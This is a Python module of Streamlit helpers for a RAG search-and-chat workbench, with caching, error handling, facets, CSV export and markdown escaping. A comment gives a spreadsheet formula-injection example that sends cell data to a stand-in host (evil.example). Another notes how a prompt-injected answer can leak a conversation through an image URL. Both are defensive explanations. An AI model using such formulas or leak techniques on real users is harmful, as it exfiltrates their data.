"""Shared Streamlit helpers: the one cached Workbench, the error boundary, cached reads and widgets.

Pages hold widgets and charts only: every read or write goes through the Workbench facade, and
every call goes through `call`, which turns a RagError into an `st.error` with its message and code.
"""

from __future__ import annotations

import calendar
import datetime as dt
import hmac
import json
import logging
import re
import threading
from pathlib import Path
from typing import Any, Callable, Sequence

import streamlit as st

from rag_core import RagError, open_workbench
from rag_core.search.types import Citation
from rag_core.chat.quotes import cited_spans
from rag_core.render.html import marked_html  # noqa: F401 - the pages call ui.marked_html
from rag_core.render.quotes import passage_html
from rag_core.security.ids import DEFAULT_SITE, SAMPLE_SITE
from rag_core.security.text import inert_markdown

log = logging.getLogger(__name__)

ROOT = Path(__file__).resolve().parent
EVAL_RESULTS = ROOT / "eval" / "results"
ALL_SITES = "All sites"
# Short TTLs: other processes (the CLI, the API) write to the same store; writes made here clear them at once.
READ_TTL_SEC = 30
# Targets of the search spec (docs/specs/requirements.md), shown next to the measured figures.
HIT5_TARGET = 0.85
P95_TARGET_MS = 1000.0
PERIODS = {"Last 24 hours": dt.timedelta(days=1), "Last 7 days": dt.timedelta(days=7),
           "Last 30 days": dt.timedelta(days=30), "All time": None}


@st.cache_resource(show_spinner="Opening the workbench (database and embedder) ...")
def workbench():
    """The process-wide Workbench: one connection pool and one embedder for every session and page.

    Background jobs queued here (or by `rag ingest --background`) run in this process while no `rag worker`
    is alive, so a single-laptop user never waits on a worker nobody started."""
    workbench = open_workbench()
    workbench.host_jobs()
    return workbench


def call(fn: Callable[..., Any], *args: Any, default: Any = None, **kwargs: Any) -> Any:
    """Run a Workbench call; on failure show a readable `st.error` (never a traceback) and return `default`."""
    try:
        return fn(*args, **kwargs)
    except RagError as exc:
        st.error(f"{exc.message}\n\n`{exc.code}`", icon=":material/error:")
    except Exception as exc:  # an unexpected failure still must not print a traceback on the page
        log.exception("Workbench call %s failed", getattr(fn, "__name__", fn))
        st.error(f"Unexpected error ({type(exc).__name__}): {exc}. The details are in the server log.",
                 icon=":material/error:")
    return default


def wb():
    """The Workbench, or a readable error and a stopped page when it cannot open (bad setting, no database)."""
    opened = call(workbench)
    if opened is None:
        st.info("Check DATABASE_URL and the RAG_* settings (see `.env.example`), then reload the page.")
        st.stop()
    return opened


def invalidate() -> None:
    """Forget cached reads after a write made in the app (ingest, delete, chat, purge, judgements)."""
    st.cache_data.clear()
    st.session_state.pop("search_judged", None)  # the Search page's judgement marks


def flash(message: str) -> None:
    """Show `message` as a success box at the top of the next run (after an st.rerun)."""
    st.session_state["flash"] = [*st.session_state.get("flash", []), message]


def toast_next(message: str) -> None:
    """Show `message` as a toast in the next run (a toast raised just before st.rerun would be lost)."""
    st.session_state["toasts"] = [*st.session_state.get("toasts", []), message]


def show_flash() -> None:
    """The messages left by `flash` and `toast_next` for this run."""
    messages = st.session_state.pop("flash", [])
    for message in messages:
        st.success(message, icon=":material/check_circle:")
    for message in st.session_state.pop("toasts", []):
        st.toast(message, icon=":material/check_circle:")


def after_write(result_key: str | None = None, result: Any = None) -> None:
    """After a write: forget cached reads, keep `result` for the next run, and run the page again at once.

    Metrics, sidebar counts and tables drawn above the button then show what the write changed, not the
    state one action behind.
    """
    invalidate()
    if result_key is not None:
        st.session_state[result_key] = result
    st.rerun()


def plural(n: int, word: str, many: str | None = None) -> str:
    """'1 document', '2 documents' (and `many` for irregular plurals)."""
    return f"{n:,} {word if n == 1 else (many or word + 's')}"


# ----- cached reads (aggregated in SQL by the Workbench; cached briefly because they run on every rerun) -----
@st.cache_data(ttl=READ_TTL_SEC, show_spinner=False)
def status(site_id: str | None = None) -> dict[str, Any]:
    """Workbench.status, cached."""
    return workbench().status(site_id)


@st.cache_data(ttl=READ_TTL_SEC, show_spinner=False)
def documents(site_id: str | None, limit: int, offset: int) -> list[dict[str, Any]]:
    """One page of Workbench.documents, cached."""
    return workbench().documents(site_id=site_id, limit=limit, offset=offset)


@st.cache_data(ttl=READ_TTL_SEC, show_spinner=False)
def sessions(site_id: str | None) -> list[dict[str, Any]]:
    """Workbench.list_sessions, cached."""
    return workbench().list_sessions(site_id=site_id, limit=200)


@st.cache_data(ttl=READ_TTL_SEC, show_spinner=False)
def retention_status() -> dict[str, Any]:
    """Workbench.retention_status, cached."""
    return workbench().retention_status()


@st.cache_data(ttl=READ_TTL_SEC, show_spinner=False)
def search_metrics(site_id: str | None, period: str) -> dict[str, Any]:
    """Workbench.search_metrics over one of PERIODS, cached."""
    return workbench().search_metrics(site_id=site_id, since=PERIODS[period])


@st.cache_data(ttl=60, show_spinner=False)
def evaluation_results(folder: str | None = None) -> list[dict[str, Any]]:
    """The newest eval/results/retrieval_<set>_<mode>.json per (set, mode); unreadable files are skipped."""
    latest: dict[tuple[str, str], dict[str, Any]] = {}
    for path in sorted(Path(folder or EVAL_RESULTS).glob("retrieval_*.json")):
        try:
            data = json.loads(path.read_text(encoding="utf-8"))
        except (OSError, ValueError) as exc:
            log.warning("Skipping unreadable evaluation result %s: %s", path, exc)
            continue
        if not isinstance(data, dict) or "hit@5" not in data:
            continue
        stem = path.stem.removeprefix("retrieval_")
        dataset = str(data.get("dataset") or stem.rsplit("_", 1)[0])
        mode = str(data.get("mode") or stem.rsplit("_", 1)[-1])
        data = {**data, "dataset": dataset, "mode": mode, "file": path.name}
        key = (dataset, mode)
        if key not in latest or str(data.get("written", "")) >= str(latest[key].get("written", "")):
            latest[key] = data
    return [latest[k] for k in sorted(latest)]


# ----- charts -----
def count_axis(fig: Any, counts: Sequence[int]) -> Any:
    """Whole-number ticks on a y axis of counts (plotly would show 0.5 steps for small counts)."""
    fig.update_yaxes(rangemode="tozero", tickformat=",d", dtick=1 if max(counts, default=0) <= 8 else None)
    return fig


# ----- search facets -----
def selected_bars(chart_state: Any) -> list[str]:
    """The x values of the bars selected in a plotly chart (its `on_select` state), sorted."""
    points = (chart_state or {}).get("selection", {}).get("points", [])
    return sorted({str(p["x"]) for p in points if p.get("x") is not None})


def narrow_by_facets(params: dict[str, Any], types: Sequence[str], months: Sequence[str]) -> dict[str, Any]:
    """Search parameters narrowed to the types and the span of 'YYYY-MM' months picked in the facet charts.

    Picked types replace the sidebar's (the charts only offer types the sidebar allows); picked months
    become a date range clipped to the sidebar's, whose documents made those bars in the first place.
    """
    narrowed = dict(params)
    if types:
        narrowed["types"] = sorted(types)
    if months:
        ordered = sorted(months)
        start = dt.date.fromisoformat(f"{ordered[0]}-01")
        year, month = map(int, ordered[-1].split("-"))
        end = dt.date(year, month, calendar.monthrange(year, month)[1])
        if params.get("date_from"):
            start = max(start, params["date_from"])
        if params.get("date_to"):
            end = min(end, params["date_to"])
        narrowed["date_from"], narrowed["date_to"] = start, end
    return narrowed


DOWNLOAD_CAP = 500  # results in a search download: every page of the search up to this many


def all_results(workbench_: Any, params: dict[str, Any], cap: int = DOWNLOAD_CAP,
                page_size: int = 50) -> list[dict[str, Any]]:
    """Every result of a search, page after page (50: the largest the search serves), up to `cap`; for the
    downloads, so logged as not typed."""
    size = page_size
    results: list[dict[str, Any]] = []
    page = 1
    while len(results) < cap:
        response = workbench_.search(**{**params, "limit": size}, page=page, typed=False)
        results += response["results"]
        if page >= response["total_pages"] or not response["results"]:
            break
        page += 1
    return results[:cap]


def related_queries(query: str, suggestions: Sequence[str]) -> list[str]:
    """The suggestions worth a click: earlier queries, not this query with a word added to it."""
    words = query.strip().lower()
    return [s for s in suggestions if s.strip() and not s.strip().lower().startswith(words)
            and s.strip().lower() != words]


# ----- site -----
def site_selector() -> None:
    """The sidebar's site picker; its value applies to Chat, Search and Ingestion. With the sample corpus open,
    a button under it removes the sample."""
    info = call(status, None, default=None) or {}
    sample = call(status, SAMPLE_SITE, default=None) or {}
    sites = sorted(set(info.get("by_site", {})) | {DEFAULT_SITE} | ({SAMPLE_SITE} if sample.get("documents") else set()))
    if "site_next" in st.session_state:  # a page asked for another site (before the picker is drawn)
        st.session_state["site"] = st.session_state.pop("site_next")
    elif "site" not in st.session_state and not info.get("documents") and sample.get("documents"):
        st.session_state["site"] = SAMPLE_SITE  # only the sample is indexed yet: open it rather than nothing
    current = st.session_state.get("site", ALL_SITES)
    options = [ALL_SITES, *sites]
    if current not in options:
        options.append(current)
    st.sidebar.selectbox("Site", options, key="site",
                         help="Each site (tenant) has its own documents; 'All sites' searches every one "
                              "except the evaluation sites and the sample corpus.")
    if current == SAMPLE_SITE and sample.get("documents"):
        st.sidebar.caption("The sample corpus: this project's README and guides, kept apart from your documents.")
        if st.sidebar.button("Remove the sample corpus", key="sample_remove", icon=":material/delete_sweep:"):
            removed = call(workbench().remove_sample_corpus)
            if removed is not None:
                st.session_state["site_next"] = ALL_SITES
                toast_next(f"Removed the sample corpus ({plural(removed['documents'], 'document')}).")
                invalidate()
                st.rerun()


def current_site() -> str | None:
    """The selected site id, or None for every site."""
    value = st.session_state.get("site", ALL_SITES)
    return None if value in (None, ALL_SITES) else value


def target_site() -> str:
    """Where new documents go: the selected site, or the default site when every site is selected."""
    return current_site() or DEFAULT_SITE


# ----- progress -----
def progress_reporter(bar: Any, verb: str = "Indexed") -> Callable[[Any], None]:
    """A pipeline progress callback that moves `bar`; it tolerates calls from a crawler's worker thread."""
    from streamlit.runtime.scriptrunner import add_script_run_ctx, get_script_run_ctx

    ctx = get_script_run_ctx()

    def report(p: Any) -> None:
        if ctx is not None and get_script_run_ctx() is None:
            add_script_run_ctx(threading.current_thread(), ctx)
        total = max(int(p.total or 0), 1)
        done = min(int(p.done or 0), total)
        current = f" · {Path(p.current).name or p.current}" if p.current else ""
        bar.progress(done / total, text=f"{verb} {done} of {p.total} · {p.chunks_done} chunks{current}")

    return report


def report_table(outcomes: Sequence[Any]) -> list[dict[str, Any]]:
    """Ingest outcomes as table rows."""
    return [{"source": o.source, "status": o.status, "chunks": o.chunks, "reason": o.reason or ""} for o in outcomes]


def ingest_summary(report: Any) -> str:
    """One line about an IngestReport."""
    s = report.to_dict()
    return (f"{s['indexed']} indexed, {s['updated']} updated, {s['unchanged']} unchanged, {s['failed']} failed · "
            f"{s['chunks']} chunks in {s['duration_s']:.1f} s")


def show_ingest_report(report: Any) -> None:
    """A one-line summary of an IngestReport, its failures as warnings and a table of every source.

    The summary is a success only when nothing failed: an error when nothing went in, else a warning."""
    counts = report.to_dict()
    stored = counts["indexed"] + counts["updated"] + counts["unchanged"]
    box = st.success if not counts["failed"] else st.warning if stored else st.error
    box(ingest_summary(report))
    for failure in report.failures:
        st.warning(f"{md_text(failure.source)}: {md_text(failure.reason)}")
    st.dataframe(report_table(report.outcomes), hide_index=True, width="stretch")


def offer_sample_corpus(key: str) -> None:
    """First-run empty state: one click indexes the project's README and docs/ into the site 'sample' and opens
    it (the sample never mixes with a user's documents)."""
    st.info("Nothing is indexed yet. Index this project's own README and user guides (a few seconds) to try "
            "chat and search at once, or add your own documents on the Ingestion page. The sample goes into "
            "a site of its own, `sample`, which one click removes.",
            icon=":material/lightbulb:")
    cols = st.columns([2, 3])
    if cols[0].button("Index the sample corpus", key=key, type="primary", icon=":material/auto_awesome:"):
        bar = st.progress(0.0, text="Starting ...")
        report = call(workbench().ingest_sample_corpus, progress=progress_reporter(bar))
        bar.empty()
        if report is not None:
            invalidate()
            st.session_state["site_next"] = SAMPLE_SITE  # the picker shows the sample's site from the next run
            flash(f"Sample corpus (site `sample`): {ingest_summary(report)}. Ask a question or search now.")
            st.rerun()  # every count, the sidebar included, redraws with the new documents
    cols[1].page_link("app_pages/ingestion.py", label="Add your own documents", icon=":material/upload_file:")


# ----- text rendering -----
_PASSAGE_STYLE = ("font-size:0.9rem;line-height:1.45;border-left:3px solid #d0d7de;padding:0.4rem 0.8rem;"
                  "max-height:12rem;overflow:auto")


def text_block(body_html: str) -> None:
    """A passage in a quiet box that keeps its line breaks."""
    st.html(f'<div style="white-space:pre-wrap;{_PASSAGE_STYLE}">{body_html}</div>')


def admin_unlocked(key: str, action: str) -> bool:
    """Whether this page may `action`: always with no RAG_ADMIN_API_KEY set (the app is the admin's, on
    loopback); otherwise once the admin key is typed into the password field `key`."""
    admin_key = workbench().settings.admin_api_key
    if not admin_key:
        st.caption(f"No `RAG_ADMIN_API_KEY` is set, so whoever uses this app may {action}; set it to require "
                   "the admin key here.")
        return True
    given = st.text_input("Admin key (RAG_ADMIN_API_KEY)", type="password", key=key)
    if given and not hmac.compare_digest(given.encode(), admin_key.encode()):
        st.error("That is not the admin key.", icon=":material/key_off:")
    return bool(given) and hmac.compare_digest(given.encode(), admin_key.encode())


# A spreadsheet runs a cell that starts with one of these as a formula: a document titled
# =HYPERLINK("https://evil.example/?"&A2, "open") in a downloaded CSV sends its neighbours' text away on a click.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_text(rows: Sequence[dict[str, Any]]) -> str:
    """Rows as CSV text for a download; a text cell a spreadsheet would run as a formula starts with a quote."""
    import pandas as pd

    safe = [{k: "'" + v if isinstance(v, str) and v.startswith(_FORMULA_START) else v for k, v in row.items()}
            for row in rows]
    return pd.DataFrame(safe).to_csv(index=False)


# ----- markdown from stored text -----
# Titles, paths, URLs and answers come from documents, crawled pages and other API callers. st.markdown
# renders no HTML, but it does render markdown: an image loads a remote URL as soon as the page shows
# (a tracking pixel, or a prompt-injected answer leaking the conversation in the URL), and a link can
# hide its target behind any text. Such text is escaped to plain characters; answers keep their
# formatting and links, and their images become links that load nothing.
_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]()<>!|~:$&^])")
# What makes a heading, a list or a rule at the start of a line: its marker (the '.' of "12.") gets the escape.
_MD_BLOCK_START = re.compile(r"^(\d*)([#+=.-])")


def md_text(value: Any) -> str:
    """`value` as markdown that shows exactly its characters, on one line: every character markdown or
    Streamlit gives a meaning (emphasis, code, links, images, lists, headings, tables, :icons:, $math$) escaped."""
    return _MD_BLOCK_START.sub(r"\1\\\2", _MD_SPECIAL.sub(r"\\\1", " ".join(str(value or "").split())))


def answer_markdown(text: str) -> str:
    """An answer or message for st.markdown: formatting and links kept, images shown as links (nothing loads;
    st.markdown renders no raw HTML)."""
    return inert_markdown(text)


def source_label(path: str, page: int | None = None) -> str:
    """A path or URL as markdown (URLs are links showing their whole address), with its page."""
    if path.startswith(("http://", "https://")) and not any(c.isspace() or c in "<>" for c in path):
        shown = f"[{md_text(path)}](<{path}>)"
    else:
        shown = md_text(path)
    return shown + (f" · page {page}" if page is not None else "")


def sources_panel(citations: Sequence[dict[str, Any]], answer: str, expanded: bool = False) -> None:
    """The chat spec's sources under an answer: similarity bar, path or URL, page, and the cited passage marked."""
    label = f"Sources ({len(citations)})" if citations else "Sources (none)"
    with st.expander(label, expanded=expanded, icon=":material/menu_book:"):
        if not citations:
            st.caption("No relevant passages were found in the documents; the answer is not grounded in them.")
            return
        for i, c in enumerate(citations, 1):
            cited = Citation.from_citation(c, n=i)  # the stored citation's keys are known in one place
            # The calibrated relevance every surface shows (CLI, REST, MCP, Slack, notebooks), not the raw cosine.
            n, relevance = cited.n, cited.similarity_pct / 100
            cols = st.columns([1, 4])
            cols[0].progress(max(0.0, min(1.0, relevance)), text=f"[{n}] {cited.similarity_pct:.1f}%")
            title = cited.title or ""
            where = source_label(cited.source or "", cited.page)
            if len(cited.sites) > 1:  # a chat over every site: the same passage is held by each of these sites
                where += " · sites: " + md_text(", ".join(cited.sites))
            cols[1].markdown(f"**{md_text(title)}** " + where if title else where)
            passage = cited.text or ""
            spans = cited_spans(answer, n, passage)
            # Start the box a little before the first quoted sentence, so the highlight is in view.
            start = passage.rfind("\n\n", 0, max(0, spans[0][0] - 200)) + 2 if spans and spans[0][0] > 300 else 0
            body = passage_html(passage[start:], [(a - start, b - start) for a, b in spans if a >= start])
            st.html(f'<div style="{_PASSAGE_STYLE}">{"… " if start else ""}{body}</div>')
